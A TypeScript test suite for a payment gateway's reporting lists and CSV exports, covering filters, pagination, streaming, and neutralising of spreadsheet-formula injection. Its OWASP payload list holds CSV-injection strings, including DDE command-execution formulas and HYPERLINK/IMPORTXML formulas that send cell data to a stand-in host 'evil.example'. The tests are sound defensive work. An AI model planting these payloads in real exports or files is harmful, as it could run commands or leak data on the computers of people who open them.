import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { expectErrorGuide, expectProblem } from '../helpers/assertions.js';
import { useGateway, type TestMerchant } from '../helpers/gateway.js';
import { insertCustomer } from '../payment-requests/fixtures.js';
import { card, CARDS } from '../payments/fixtures.js';
import { csvRecords } from './csv.js';

/** The reporting lists and their CSV exports: filters, pagination, escaping, streaming (docs/reporting.md). */
const gw = useGateway({ env: { RATE_LIMIT_MAX: '1000000' } });
let m: TestMerchant;
let customerId: number;
const requests: Record<string, number> = {};
const payments: Record<string, number> = {};

async function request(name: string, body: Record<string, unknown>) {
  const res = await gw.call('POST', '/payment-requests', { apiKey: m.apiKey, body });
  expect(res.status, res.text).toBe(200);
  requests[name] = res.body.paymentRequestId;
  gw.clock.advance(3600);
}

async function pay(name: string, number: string) {
  const res = await gw.call('POST', `/payments/creditCard/acme/${requests[name]}`, {
    apiKey: m.apiKey,
    body: card(number),
  });
  expect([200, 402], res.text).toContain(res.status);
  payments[name] = res.body.paymentId;
}

/** OWASP's CSV-injection payloads, spelled as a payer or merchant could put them in a text field. */
const OWASP_CSV_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  ' =HYPERLINK("http://evil.example")',
  '\t=1+2',
  '\r=1+2',
  'a;=1+2',
  'a,=1+2',
  'a; @SUM(1)',
  'a|=1+2',
  'a\t-2+3',
  'Ticket\n=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
];

beforeAll(async () => {
  m = await gw.merchant();
  customerId = await insertCustomer(gw, m);
  await request('small', { amount: 5, currency: 'EUR', reference: 'A-1' });
  await request('formula', { amount: 12.34, currency: 'EUR', reference: '=HYPERLINK("x")', description: 'a, "b"\nc' });
  await request('yen', { amount: 1200, currency: 'JPY', reference: 'A-2', customerId });
  await request('large', { amount: 250, currency: 'EUR', reference: 'A-3', customerId });
  for (const [i, payload] of OWASP_CSV_PAYLOADS.entries())
    await request(`owasp-${i}`, { amount: 1, currency: 'GBP', reference: `owasp-${i}`, description: payload });
  await pay('small', CARDS.visa);
  await pay('large', CARDS.doNotHonor);
  // Another merchant's and the live mode's rows never show (test/security covers every list too).
  const other = await gw.merchant();
  await gw.call('POST', '/payment-requests', {
    apiKey: other.apiKey,
    body: { amount: 5, currency: 'EUR', reference: 'A-1' },
  });
});

const get = (path: string) => gw.call('GET', path, { apiKey: m.apiKey });
const requestIds = async (query: string) =>
  (await get(`/payment-requests?${query}`)).body.data.map((r: { paymentRequestId: number }) => r.paymentRequestId);
const paymentIds = async (query: string) =>
  (await get(`/payments?${query}`)).body.data.map((p: { paymentId: number }) => p.paymentId);

describe('GET /payment-requests filters', () => {
  it('by currency and an amount range in its major units, both bounds inclusive', async () => {
    expect(await requestIds('currency=eur&amountFrom=5&amountTo=12.34')).toEqual([requests.formula, requests.small]);
    expect(await requestIds('currency=EUR&amountFrom=12.35')).toEqual([requests.large]);
    expect(await requestIds('currency=JPY&amountTo=1200')).toEqual([requests.yen]);
    expect(await requestIds('currency=USD')).toEqual([]);
  });

  it('combine with status, customer and the cursor', async () => {
    expect(await requestIds(`customerId=${customerId}&currency=EUR`)).toEqual([requests.large]);
    expect(await requestIds('status=paid')).toEqual([requests.small]);
    const first = await get('/payment-requests?limit=1&currency=EUR&amountFrom=5');
    const second = await get(`/payment-requests?limit=5&currency=EUR&amountFrom=5&cursor=${first.body.nextCursor}`);
    expect([...first.body.data, ...second.body.data].map((r: any) => r.paymentRequestId)).toEqual([
      requests.large,
      requests.formula,
      requests.small,
    ]);
  });

  it('refuses an amount without a currency, an unknown currency and too many decimals (400, not 500)', async () => {
    const bare = await get('/payment-requests?amountFrom=5');
    expectErrorGuide(bare, 'VALIDATION_ERROR');
    expect(bare.body.details).toEqual({ field: 'currency' });
    expectErrorGuide(await get('/payment-requests?currency=XYZ'), 'INVALID_FORMAT');
    const decimals = await get('/payment-requests?currency=JPY&amountFrom=1.5');
    expectErrorGuide(decimals, 'INVALID_FORMAT');
    expect(decimals.body.details).toEqual({ field: 'amountFrom', value: 1.5 });
    expectErrorGuide(await get('/payment-requests?currency=EUR&amountTo=-1'), 'INVALID_FORMAT');
  });
});

describe('GET /payments (every attempt, not only one request’s)', () => {
  it('lists the merchant’s payments newest first, paginated', async () => {
    const first = await get('/payments?limit=1');
    expect(first.status, first.text).toBe(200);
    expect(first.body.data.map((p: any) => p.paymentId)).toEqual([payments.large]);
    expect(first.body.hasMore).toBe(true);
    const second = await get(`/payments?limit=1&cursor=${first.body.nextCursor}`);
    expect(second.body).toMatchObject({ hasMore: false, nextCursor: null });
    expect(second.body.data[0]).toMatchObject({ paymentId: payments.small, status: 'succeeded', amount: 5 });
  });

  it('filters by status, request, reference, customer, date and amount', async () => {
    expect(await paymentIds('status=failed')).toEqual([payments.large]);
    expect(await paymentIds(`paymentRequestId=${requests.small}`)).toEqual([payments.small]);
    expect(await paymentIds('reference=A-1')).toEqual([payments.small]);
    expect(await paymentIds(`customerId=${customerId}`)).toEqual([payments.large]);
    expect(await paymentIds('currency=EUR&amountFrom=100')).toEqual([payments.large]);
    const now = gw.clock.now().getTime();
    expect(await paymentIds(`createdFrom=${new Date(now + 1000).toISOString()}`)).toEqual([]);
    expect(await paymentIds(`createdTo=${new Date(now).toISOString()}`)).toEqual([payments.large, payments.small]);
  });

  it('answers bad filters with the problem record (400)', async () => {
    expectProblem(await get('/payments?status=paid'), 'INVALID_FORMAT');
    expectProblem(await get('/payments?amountTo=3'), 'VALIDATION_ERROR');
    expectProblem(await get('/payments?cursor=nope'), 'INVALID_FORMAT');
  });
});

describe('CSV exports', () => {
  it('the payment requests export is the filtered list, every row, with minor units and a decimal column', async () => {
    const res = await get('/payment-requests/export/csv?currency=EUR');
    expect(res.status, res.text).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="payment-requests-[\dT-]+Z\.csv"$/);
    const rows = csvRecords(res.text);
    const list = (await get('/payment-requests?currency=EUR')).body.data;
    expect(rows.map((r) => Number(r.paymentRequestId))).toEqual(list.map((r: any) => r.paymentRequestId));
    expect(rows.find((r) => Number(r.paymentRequestId) === requests.formula)).toMatchObject({
      reference: `'=HYPERLINK("x")`,
      description: 'a, "b"\nc',
      amountMinor: '1234',
      amount: '12.34',
      currency: 'EUR',
      status: 'open',
    });
    expect(rows.find((r) => Number(r.paymentRequestId) === requests.small)).toMatchObject({
      amount: '5.00',
      amountPaidMinor: '500',
      amountPaid: '5.00',
      status: 'paid',
    });
    const yen = csvRecords((await get('/payment-requests/export/csv?currency=JPY')).text);
    expect(yen).toMatchObject([{ amountMinor: '1200', amount: '1200', customerId: String(customerId) }]);
  });

  it("neutralises OWASP's formula payloads in every locale's separators, and quotes every text cell", async () => {
    const res = await get('/payment-requests/export/csv?currency=GBP');
    const rows = csvRecords(res.text);
    expect(rows).toHaveLength(OWASP_CSV_PAYLOADS.length);
    for (const [i, payload] of OWASP_CSV_PAYLOADS.entries()) {
      const cell = rows.find((r) => r.reference === `owasp-${i}`)!.description;
      // Only apostrophes were added: the text is the payload's.
      expect(cell.replace(/'/g, ''), payload).toBe(payload.replace(/'/g, ''));
      // A spreadsheet splitting on , ; tab | or a line end finds no piece that starts a formula.
      for (const piece of cell.split(/[,;\t|\r\n]/)) expect(piece.trimStart(), payload).not.toMatch(/^[=+\-@]/);
      expect(cell, payload).not.toMatch(/^[\t\r]/);
    }
    // Text cells are quoted in the file itself, numbers are not.
    const line = res.text.split('\r\n').find((l) => l.includes('"owasp-0"'));
    expect(line).toMatch(/^\d+,"[^"]+","open","owasp-0","GBP",100,"1.00",/);
  });

  it('the payments export is the filtered payments list', async () => {
    const res = await get('/payments/export/csv?status=failed');
    expect(res.headers.get('content-disposition')).toMatch(/filename="payments-/);
    expect(csvRecords(res.text)).toMatchObject([
      {
        paymentId: String(payments.large),
        status: 'failed',
        amountMinor: '25000',
        amount: '250.00',
        declineCode: '05',
      },
    ]);
  });

  it('a bad filter is a 400 before any CSV is written', async () => {
    expectErrorGuide(await get('/payment-requests/export/csv?amountFrom=1'), 'VALIDATION_ERROR');
    expectProblem(await get('/payments/export/csv?createdFrom=soon'), 'INVALID_FORMAT');
  });

  it('streams 100,000 rows in chunks, without a content length', async () => {
    const big = await gw.merchant();
    await sql`insert into payment_requests (merchant_id, livemode, amount, currency, reference, status, created_at, updated_at)
      select ${big.merchantId}, false, n, 'EUR', '+ref-' || n, 'open', now(), now() from generate_series(1, 100000) n`.execute(
      gw.db,
    );
    const res = await fetch(`${gw.url}/payment-requests/export/csv`, { headers: { 'x-api-key': big.apiKey } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-length')).toBeNull();
    expect(res.headers.get('transfer-encoding')).toBe('chunked');
    let chunks = 0;
    let lines = 0;
    let tail = '';
    const decoder = new TextDecoder();
    for await (const chunk of res.body!) {
      chunks++;
      const text = tail + decoder.decode(chunk, { stream: true });
      const parts = text.split('\r\n');
      tail = parts.pop()!;
      lines += parts.length;
      if (lines === 2) expect(parts[1]).toMatch(/^\d+,[^,]+,open,'\+ref-100000,EUR,100000,1000\.00,/);
    }
    expect(tail).toBe('');
    expect(lines).toBe(100_001);
    expect(chunks).toBeGreaterThan(50);
  }, 120_000);
});
